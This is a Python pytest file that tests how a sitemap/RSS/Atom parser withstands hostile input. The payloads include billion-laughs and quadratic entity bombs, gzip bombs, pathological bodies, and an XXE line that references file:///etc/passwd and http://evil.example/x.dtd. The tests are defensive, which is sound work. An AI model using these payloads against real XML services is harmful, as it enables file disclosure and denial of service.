"""Hostile, broken and unusual sitemaps."""

from __future__ import annotations

import gzip
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gossamer.adapters.digest.sitemap import parse_sitemap, types_of_sitemap
from gossamer.model.limits import SITEMAP_MAX_BYTES, SITEMAP_URLS_MAX, URL_INPUT_MAX_CHARS

BASE = "https://a.example/dir/sitemap.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


def urls(body: str | bytes, base: str = BASE) -> list[str]:
    result = parse_sitemap(body.encode() if isinstance(body, str) else body, base, "text/xml")
    return [entry[0] for entry in result.entries] + result.children


def urlset(*locations: str) -> str:
    return f"{HEAD}<urlset>{''.join(f'<url><loc>{loc}</loc></url>' for loc in locations)}</urlset>"


LAUGHS = (
    "<!DOCTYPE urlset [<!ENTITY a 'haha'>"
    + "".join(f"<!ENTITY {chr(98 + i)} '{f'&{chr(97 + i)};' * 10}'>" for i in range(9))
    + "]><urlset><url><loc>https://a.example/&j;</loc></url></urlset>"
)
QUADRATIC = f"<!DOCTYPE urlset [<!ENTITY a '{'A' * 50_000}'>]><urlset><url><loc>{'&a;' * 50_000}</loc></url></urlset>"
IN_ATTRIBUTE = LAUGHS.replace("<url><loc>https://a.example/&j;</loc></url>", "<url x='&j;'/>")


@pytest.mark.parametrize("bomb", [LAUGHS, QUADRATIC, IN_ATTRIBUTE], ids=["laughs", "quadratic", "attribute"])
def test_entity_bombs_are_refused(bomb: str) -> None:
    result = parse_sitemap(bomb.encode(), BASE, "")
    assert result.entries == []
    assert "declares the entity" in result.error


def test_external_entities_stand_for_nothing() -> None:
    body = "<!DOCTYPE u [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]>"
    assert urls(f"{body}<urlset><url><loc>/a&x;b</loc></url></urlset>") == ["https://a.example/ab"]


def test_gzip_bomb_is_cut_at_the_cap() -> None:
    bomb = gzip.compress(urlset("/a").encode()[:-9] + b" " * (SITEMAP_MAX_BYTES + 10), 1)
    result = parse_sitemap(bomb, BASE, "application/gzip")
    assert result.truncated
    assert [entry[0] for entry in result.entries] == ["https://a.example/a"]


def test_gzip_inside_gzip_is_refused() -> None:
    result = parse_sitemap(gzip.compress(gzip.compress(urlset("/a").encode())), BASE, "")
    assert result.entries == []
    assert result.error == "gzip inside gzip"


def test_gzip_cut_short_keeps_what_came() -> None:
    full = urlset(*(f"/page-{i}-{i * 7919 % 104729}" for i in range(5000))).encode()
    packed = gzip.compress(full)
    result = parse_sitemap(packed[: len(packed) // 2], BASE, "")
    assert 1000 < len(result.entries) < 5000
    assert result.error


def test_no_more_entries_than_the_protocol_allows() -> None:
    result = parse_sitemap(urlset(*(f"/{i}" for i in range(SITEMAP_URLS_MAX + 5))).encode(), BASE, "")
    assert len(result.entries) == SITEMAP_URLS_MAX
    assert result.truncated
    text = parse_sitemap(b"https://a.example/\n" * (SITEMAP_URLS_MAX + 5), BASE, "text/plain")
    assert len(text.entries) == SITEMAP_URLS_MAX
    assert text.truncated
    index = parse_sitemap(
        ("<sitemapindex>" + "<sitemap><loc>/s</loc></sitemap>" * (SITEMAP_URLS_MAX + 5)).encode(), BASE, ""
    )
    assert len(index.children) == SITEMAP_URLS_MAX


def test_just_as_many_as_allowed_are_not_truncated() -> None:
    assert not parse_sitemap(urlset(*(f"/{i}" for i in range(SITEMAP_URLS_MAX))).encode(), BASE, "").truncated


def test_a_location_that_is_cut_is_no_location() -> None:
    assert urls("<urlset><url><loc>/whole</loc></url><url><loc>https://a.example/whi") == ["https://a.example/whole"]
    assert urls("<urlset><url><loc>/whole</loc></url><url><loc>https://a.example/while</lo") == [
        "https://a.example/whole",
        "https://a.example/while",
    ]


def test_over_long_locations_are_dropped() -> None:
    assert urls(urlset("/a", "/" + "x" * (URL_INPUT_MAX_CHARS + 1), "/b")) == [
        "https://a.example/a",
        "https://a.example/b",
    ]
    long_line = b"https://a.example/" + b"x" * (URL_INPUT_MAX_CHARS * 3)
    assert urls(b"https://a.example/a\n" + long_line + b"\nhttps://a.example/b") == [
        "https://a.example/a",
        "https://a.example/b",
    ]


def test_bare_ampersands_are_repaired_outside_cdata() -> None:
    body = urlset("/a?x=1&y=2", "/b?x=1&amp;y=2", "<![CDATA[/c?x=1&y=2]]>", "/d&nbsp;e")
    result = parse_sitemap(body.encode(), BASE, "")
    assert [entry[0] for entry in result.entries] == [
        "https://a.example/a?x=1&y=2",
        "https://a.example/b?x=1&y=2",
        "https://a.example/c?x=1&y=2",
        "https://a.example/d&nbsp;e",
    ]
    assert "read all the same" in result.error


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-16", "iso-8859-1", "windows-1251", "gbk", "shift_jis", "koi8-r", "big5"]
)
def test_encodings(encoding: str) -> None:
    word = {"gbk": "中文", "shift_jis": "日本", "windows-1251": "шаг", "koi8-r": "шаг", "big5": "中文"}.get(
        encoding, "café"
    )
    body = f'<?xml version="1.0" encoding="{encoding}"?><urlset><url><loc>/{word}</loc></url></urlset>'.encode(encoding)
    found = urls(body)
    assert len(found) == 1
    from urllib.parse import unquote

    assert unquote(found[0]) == f"https://a.example/{word}"


@pytest.mark.parametrize("encoding", ["zip", "unicode_escape", "idna", "rot13", "no-such-thing", "x" * 39])
def test_strange_encodings_are_errors(encoding: str) -> None:
    result = parse_sitemap(f'<?xml version="1.0" encoding="{encoding}"?><urlset/>'.encode(), BASE, "")
    assert result.entries == []
    assert result.error


@pytest.mark.parametrize("prefix", ["", "ns0:", "sm:"])
def test_prefixes_and_foreign_elements(prefix: str) -> None:
    body = (
        f"<{prefix}urlset xmlns:image='i'><{prefix}url><image:image><image:loc>/i.png</image:loc></image:image>"
        f"<{prefix}lastmod>2020-01-02</{prefix}lastmod><{prefix}loc> /a </{prefix}loc><image:loc>/i2.png</image:loc>"
        f"<{prefix}priority>0.7</{prefix}priority><{prefix}changefreq>Weekly</{prefix}changefreq></{prefix}url></{prefix}urlset>"
    )
    assert parse_sitemap(body.encode(), BASE, "").entries == [("https://a.example/a", 1577923200.0, "weekly", 0.7)]


@pytest.mark.parametrize(
    ("priority", "expected"),
    [("0.5", 0.5), ("1", 1.0), ("1.5", None), ("-1", None), ("nan", None), ("", None), ("٠", None), ("1e-1", None)],
)
def test_priority(priority: str, expected: float | None) -> None:
    body = f"<urlset><url><loc>/a</loc><priority>{priority}</priority></url></urlset>"
    assert parse_sitemap(body.encode(), BASE, "").entries[0][3] == expected


def test_atom() -> None:
    body = (
        "<feed xmlns='http://www.w3.org/2005/Atom'><link href='/self' rel='self'/>"
        "<updated>2020-01-01T00:00:00Z</updated>"
        "<entry><link rel='edit' href='/edit'/><link rel='alternate' href='/one'/>"
        "<published>2020-01-02T00:00:00Z</published>"
        "<updated>2020-01-03T00:00:00Z</updated><content type='xhtml'><div><link href='/no'/></div></content></entry>"
        "<entry><link href='/two'/></entry><entry><title>no link</title></entry></feed>"
    )
    result = parse_sitemap(body.encode(), BASE, "application/atom+xml")
    assert result.kind == "feed"
    assert result.entries == [
        ("https://a.example/one", 1578009600.0, "", None),
        ("https://a.example/two", None, "", None),
    ]


def test_rss_ignores_what_is_outside_items() -> None:
    body = (
        "<rss xmlns:atom='a'><channel><link>/home</link><image><link>/logo</link></image><item>"
        "<atom:link href='/hub' rel='hub'/><link>/one</link><guid>https://a.example/guid</guid>"
        "<dc:date xmlns:dc='d'>2020-01-02</dc:date></item></channel></rss>"
    )
    assert parse_sitemap(body.encode(), BASE, "").entries == [("https://a.example/one", 1577923200.0, "", None)]


def test_a_robots_file_is_no_sitemap() -> None:
    """`Sitemap: /robots.txt` must not lead in circles."""
    body = b"User-agent: *\nDisallow: /x\nSitemap: https://a.example/robots.txt\nSitemap: /robots.txt\n"
    assert parse_sitemap(body, "https://a.example/robots.txt", "text/plain").kind == "none"


@pytest.mark.parametrize(
    ("url", "content_type", "prefix", "kind"),
    [
        (BASE, "text/xml", b"\xef\xbb\xbf\n<?xml version='1.0'?><!-- c --><urlset xmlns='x'><url>", "urlset"),
        ("https://a.example/x", "text/html", b"<rss version='2.0'><cha", "feed"),
        ("https://a.example/x", "text/html", b"<!DOCTYPE html><html><body>", "none"),
        ("https://a.example/x", "text/html", b"<html xmlns='http://www.w3.org/1999/xhtml'>", "none"),
        ("https://a.example/s.xml.gz", "", gzip.compress(urlset("/a").encode(), mtime=0), "urlset"),
        ("https://a.example/sitemap.txt", "text/plain", b"https://a.example/1\nhttps://a.exa", "text"),
        ("https://a.example/list.txt", "text/plain", b"https://a.example/1\n", "none"),
        ("https://a.example/sitemap", "text/html", b"https://a.example/1\n", "none"),
        (BASE, "", b"", "none"),
        (BASE, "", b"\x89PNG\r\n", "none"),
    ],
)
def test_sniffing(url: str, content_type: str, prefix: bytes, kind: str) -> None:
    assert types_of_sitemap(url, content_type, prefix) == kind


@pytest.mark.serial
@pytest.mark.parametrize(
    "body",
    [
        b"<urlset>" + b"<a>" * 1_000_000,
        b"<urlset><url><loc>" + b"x" * 8_000_000,
        b"<urlset " + b"x" * 8_000_000,
        b"<urlset><!-- " + b"-" * 8_000_000,
        b"<urlset>" + b"<![CDATA[" * 500_000,
        b"<urlset><url>" + b"&;" * 2_000_000,
        b"http://" * 500_000,
        b"\n" * 4_000_000 + b"x",
        b"<urlset>" + b"<url><loc>" * 200_000,
    ],
    ids=["deep", "text", "name", "comment", "cdata", "ampersands", "line", "blank", "nested"],
)
def test_hostile_bodies_end_soon(body: bytes) -> None:
    start = time.process_time()
    parse_sitemap(body, BASE, "")
    assert time.process_time() - start < 3.0


@given(st.binary(max_size=300))
@settings(deadline=None, max_examples=200)
def test_nothing_raises(body: bytes) -> None:
    for variant in (
        body,
        b"<urlset><url><loc>" + body,
        b"<?xml version='1.0' encoding='" + body[:20] + b"'?><rss>",
        b"<feed><entry><link href='" + body + b"'/></entry></feed>",
        b"\x1f\x8b\x08" + body,
        b"\xff\xfe" + body,
    ):
        parse_sitemap(variant, BASE, "")
        types_of_sitemap(BASE, "", variant)


@given(
    st.lists(
        st.text(st.characters(min_codepoint=0x21, exclude_categories=["Cs", "Cn", "Co"]), max_size=30), max_size=10
    )
)
@settings(deadline=None, max_examples=100)
def test_locations_survive_escaping(paths: list[str]) -> None:
    from xml.sax.saxutils import escape

    locations = [f"https://a.example/{path}" for path in paths]
    assert urls(urlset(*map(escape, locations))) == [location.strip() for location in locations]
